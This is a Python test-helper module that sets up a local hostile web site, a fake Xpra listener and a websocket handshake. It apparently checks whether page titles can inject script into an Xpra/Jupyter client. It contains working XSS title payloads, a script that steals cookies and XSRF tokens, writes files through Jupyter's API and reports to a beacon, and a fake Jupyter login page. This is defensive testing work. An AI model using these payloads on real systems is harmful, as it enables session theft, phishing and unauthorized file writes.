"""An attacker's tools for the real attack tests: a hostile web site, a fake Xpra listener and a
raw websocket handshake.

The site (127.0.0.1 only) serves pages whose ``<title>`` holds markup that runs script when a
client inserts the title as HTML, the script those payloads load, a page that frames a URL of
the test's choosing, and a beacon the script reports to. It records every request it gets
(with the browser that sent it), so a test can tell Firefox's requests (the page itself) from
Chromium's (script that escaped into the Xpra client).
"""

from __future__ import annotations

import contextlib
import html
import http.server
import json
import socket
import threading
import time
from dataclasses import dataclass
from typing import Any
from urllib.parse import parse_qsl, urlsplit

PAYLOAD_FILE_PREFIX = "pwned-"
"""Every file the payloads try to write through /api/contents starts with this."""

DONE_PAGE = "done"
DONE_TITLE = "ffsystemd attack run finished"


def _loader(port: int, via: str) -> str:
    """JavaScript (no double quotes) that loads the payload script tagged `via`."""
    return (
        "var s=document.createElement('script');"
        f"s.src='http://127.0.0.1:{port}/evil.js?via={via}';document.body.appendChild(s)"
    )


MAX_TITLE = 230
"""Window titles reach the client cut at 256 characters (Firefox adds " — Mozilla Firefox")."""


def title_payloads(port: int) -> dict[str, str]:
    """Window titles a hostile page sets, by name: each does harm if inserted as HTML.

    Each is at most MAX_TITLE characters, so that it reaches the client whole.
    """
    payloads = {
        "img": f'<img src=x onerror="{_loader(port, "img")}">',
        "script": f"<script src=http://127.0.0.1:{port}/evil.js?via=script></script>",
        "link": (
            f'<a href="javascript:(function(){{{_loader(port, "link")}}})()" '
            'style="position:fixed;inset:0;display:block;z-index:99999">Firefox</a>'
        ),
        "svg": f'<svg onload="{_loader(port, "svg")}"></svg>',
        "srcdoc": f"<iframe srcdoc='<script src=http://127.0.0.1:{port}/evil.js?via=srcdoc></script>'></iframe>",
        # No second script: the handler itself exfiltrates the cookies (a CSP that allows
        # inline handlers but not foreign scripts still loses them).
        "inline": (
            f"<img src=y onerror=\"new Image().src='http://127.0.0.1:{port}/beacon?via=inline&what=cookie"
            "&ok='+(/_xsrf/.test(document.cookie)?1:0)+'&detail='+encodeURIComponent(document.cookie)\">"
        ),
        # No script at all: markup that takes the Firefox tab's frame to the attacker's page
        # (a fake Jupyter login inside JupyterLab), by itself or at the user's first click.
        # Last: where they work, the views show the attacker's page from then on.
        "refresh": (
            f'<meta http-equiv=refresh content="0;url=http://127.0.0.1:{port}/phish?via=refresh">'
            f"<iframe src=http://127.0.0.1:{port}/phish?via=iframe></iframe>"
        ),
        "navlink": (
            f'<a href="http://127.0.0.1:{port}/phish?via=navlink" '
            'style="position:fixed;inset:0;display:block;z-index:99999">Firefox</a>'
        ),
    }
    too_long = [name for name, title in payloads.items() if len(title) > MAX_TITLE]
    assert not too_long, f"payloads too long to reach the client whole: {too_long}"
    return payloads


EVIL_JS = r"""
(function () {
  var via = %(via)s, BEACON = %(beacon)s, API = %(api)s;
  function report(what, ok, detail) {
    var q = 'via=' + encodeURIComponent(via) + '&what=' + encodeURIComponent(what) +
      '&ok=' + (ok ? 1 : 0) + '&detail=' + encodeURIComponent(String(detail).slice(0, 300));
    try { new Image().src = BEACON + '?ch=img&' + q; } catch (e) {}
    try { fetch(BEACON + '?ch=fetch&' + q, {mode: 'no-cors'}).catch(function () {}); } catch (e) {}
  }
  report('ran', true, String(self.origin) + ' ' + location.href);
  var xsrf = '';
  function grab(what, read) {
    try {
      var c = read(), m = /(?:^|; )_xsrf=([^;]*)/.exec(c);
      if (m && !xsrf) { xsrf = decodeURIComponent(m[1]); }
      report(what, !!m, c);
    } catch (e) { report(what, false, e); }
  }
  grab('cookie', function () { return document.cookie; });
  if (parent !== window) {
    grab('parent-cookie', function () { return parent.document.cookie; });
    try { report('parent-document', true, parent.location.href + ' ' + parent.document.title); }
    catch (e) { report('parent-document', false, e); }
  }
  if (top !== window) {
    try {
      var cfg = top.document.getElementById('jupyter-config-data');
      report('top-document', true, cfg ? cfg.textContent : top.document.title);
    } catch (e) { report('top-document', false, e); }
  }
  var bases = [API, location.pathname.split('firefox-launcher/')[0]];
  bases.forEach(function (base, i) {
    var name = %(prefix)s + via + '-' + i + '.txt';
    fetch(base + 'api/contents/' + name, {
      method: 'PUT', credentials: 'include',
      headers: {'Content-Type': 'application/json', 'X-XSRFToken': xsrf},
      body: JSON.stringify({type: 'file', format: 'text', content: 'written by a hostile page'})
    }).then(function (r) { report('put', r.ok, r.status + ' ' + base); },
            function (e) { report('put', false, e + ' ' + base); });
    fetch(base + 'api/kernelspecs', {credentials: 'include'}).then(function (r) {
      return r.text().then(function (t) { report('kernelspecs', r.ok, r.status + ' ' + t.slice(0, 80)); });
    }, function (e) { report('kernelspecs', false, e + ' ' + base); });
  });
  try {
    if (parent !== window) {
      parent.fetch(API + 'api/kernelspecs', {credentials: 'include'}).then(
        function (r) { report('parent-fetch', r.ok, r.status); },
        function (e) { report('parent-fetch', false, e); });
    }
  } catch (e) { report('parent-fetch', false, e); }
})();
"""

# The page Firefox shows: its title is the payload; its script (running in Firefox, where the
# page is the attacker's own) moves to the next page when the test says so.
PAGE_HTML = """<!doctype html>
<html><head><meta charset="utf-8"><title>%(title)s</title></head>
<body><p>hostile page %(name)s</p>
<script>
(function poll() {
  fetch('/control', {cache: 'no-store'}).then(function (r) { return r.text(); }).then(function (t) {
    if (t && t !== %(name_js)s) { location.replace('/page/' + t); } else { setTimeout(poll, 150); }
  }, function () { setTimeout(poll, 500); });
})();
</script></body></html>
"""


@dataclass(frozen=True)
class Seen:
    """One request the hostile site received."""

    method: str
    path: str
    user_agent: str
    origin: str | None

    @property
    def by_firefox(self) -> bool:
        return "Firefox/" in self.user_agent and "Chrome" not in self.user_agent

    @property
    def by_chromium(self) -> bool:
        return "Chrome" in self.user_agent


class HostileSite:
    """The attacker's web site on 127.0.0.1 (another origin than the Jupyter server's)."""

    def __init__(self, jupyter_base: str) -> None:
        self.jupyter_base = jupyter_base
        self.requests: list[Seen] = []
        self.reports: list[dict[str, str]] = []
        self.current = "img"
        self._lock = threading.Lock()
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site._record(self)
                status, ctype, body = site._answer(self.path)
                self.send_response(status)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Cache-Control", "no-store")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port: int = self.server.server_address[1]
        self.origin = f"http://127.0.0.1:{self.port}"
        self.payloads = title_payloads(self.port)
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> HostileSite:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()

    # --- what the test controls and reads ---------------------------------------------------
    def show(self, name: str) -> None:
        """Ask the page open in Firefox to move to page `name` (a payload name or DONE_PAGE)."""
        self.current = name

    def page_url(self, name: str) -> str:
        return f"{self.origin}/page/{name}"

    def title_of(self, name: str) -> str:
        return DONE_TITLE if name == DONE_PAGE else self.payloads[name]

    def firefox_loaded(self, name: str) -> bool:
        with self._lock:
            return any(s.by_firefox and s.path == f"/page/{name}" for s in self.requests)

    def successes(self) -> list[dict[str, str]]:
        """Reports of a payload that got something with the user's credentials."""
        with self._lock:
            return [r for r in self.reports if r.get("ok") == "1" and r.get("what") != "ran"]

    def escaped(self) -> list[Seen]:
        """Requests Chromium made for the payload's script or beacon: script ran in the client."""
        with self._lock:
            return [s for s in self.requests if s.by_chromium and s.path.startswith(("/evil.js", "/beacon"))]

    def phished(self) -> list[Seen]:
        """Chromium loaded the attacker's fake login page (a title's markup navigated a frame)."""
        with self._lock:
            return [s for s in self.requests if s.by_chromium and s.path.startswith("/phish")]

    # --- serving ------------------------------------------------------------------------------
    def _record(self, handler: http.server.BaseHTTPRequestHandler) -> None:
        seen = Seen(
            handler.command,
            handler.path,
            handler.headers.get("User-Agent", ""),
            handler.headers.get("Origin"),
        )
        with self._lock:
            self.requests.append(seen)
            if urlsplit(handler.path).path == "/beacon":
                self.reports.append(dict(parse_qsl(urlsplit(handler.path).query)))

    def _answer(self, raw_path: str) -> tuple[int, str, bytes]:
        parts = urlsplit(raw_path)
        query = dict(parse_qsl(parts.query))
        if parts.path == "/control":
            return 200, "text/plain", self.current.encode()
        if parts.path.startswith("/page/"):
            name = parts.path[len("/page/") :]
            if name != DONE_PAGE and name not in self.payloads:
                return 404, "text/plain", b"no such page"
            page = PAGE_HTML % {
                "title": html.escape(self.title_of(name), quote=False),
                "name": html.escape(name),
                "name_js": json.dumps(name),
            }
            return 200, "text/html; charset=utf-8", page.encode()
        if parts.path == "/evil.js":
            script = EVIL_JS % {
                "via": json.dumps(query.get("via", "?")),
                "beacon": json.dumps(f"{self.origin}/beacon"),
                "api": json.dumps(self.jupyter_base),
                "prefix": json.dumps(PAYLOAD_FILE_PREFIX),
            }
            return 200, "text/javascript", script.encode()
        if parts.path == "/frame":
            src = html.escape(query.get("src", ""), quote=True)
            page = (
                "<!doctype html><title>framer</title>"
                f'<iframe id="victim" src="{src}" width="900" height="600"></iframe>'
            )
            return 200, "text/html; charset=utf-8", page.encode()
        if parts.path == "/phish":
            page = "<!doctype html><title>Jupyter</title><p>Your session expired. Token: <input></p>"
            return 200, "text/html; charset=utf-8", page.encode()
        if parts.path == "/beacon":
            return 204, "text/plain", b""
        return 404, "text/plain", b"not here"


class FakeXpraListener:
    """A TCP listener on 127.0.0.1 where a misdirected Xpra client would connect; records peers."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port: int = self.sock.getsockname()[1]
        self.connections: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def __enter__(self) -> FakeXpraListener:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(5)
        self.sock.close()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.connections.append(b"")  # recorded at once; the request line follows
            with conn:
                conn.settimeout(2)
                with contextlib.suppress(OSError):
                    self.connections[-1] = conn.recv(4096)


def websocket_handshake(
    port: int, path: str, origin: str | None = None, cookie: str | None = None, timeout: float = 30
) -> int:
    """Send a websocket upgrade for `path` to 127.0.0.1:port as a browser would; the status code.

    The connection is closed right after the answer's status line (a 101 means the session's
    Xpra itself answered the handshake).
    """
    lines = [
        f"GET {path} HTTP/1.1",
        f"Host: 127.0.0.1:{port}",
        "Upgrade: websocket",
        "Connection: Upgrade",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Protocol: binary",
    ]
    if origin is not None:
        lines.append(f"Origin: {origin}")
    if cookie is not None:
        lines.append(f"Cookie: {cookie}")
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        sock.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
        data = b""
        deadline = time.monotonic() + timeout
        while b"\r\n" not in data and time.monotonic() < deadline:
            chunk = sock.recv(4096)
            if not chunk:
                break
            data += chunk
    status_line = data.split(b"\r\n", 1)[0].decode(errors="replace")
    parts = status_line.split()
    if len(parts) < 2 or not parts[1].isdigit():
        raise AssertionError(f"no HTTP answer to the upgrade of {path}: {data[:200]!r}")
    return int(parts[1])


def cookie_header(cookies: list[dict[str, Any]]) -> str:
    """A Cookie header from Playwright's context.cookies()."""
    return "; ".join(f"{c['name']}={c['value']}" for c in cookies)
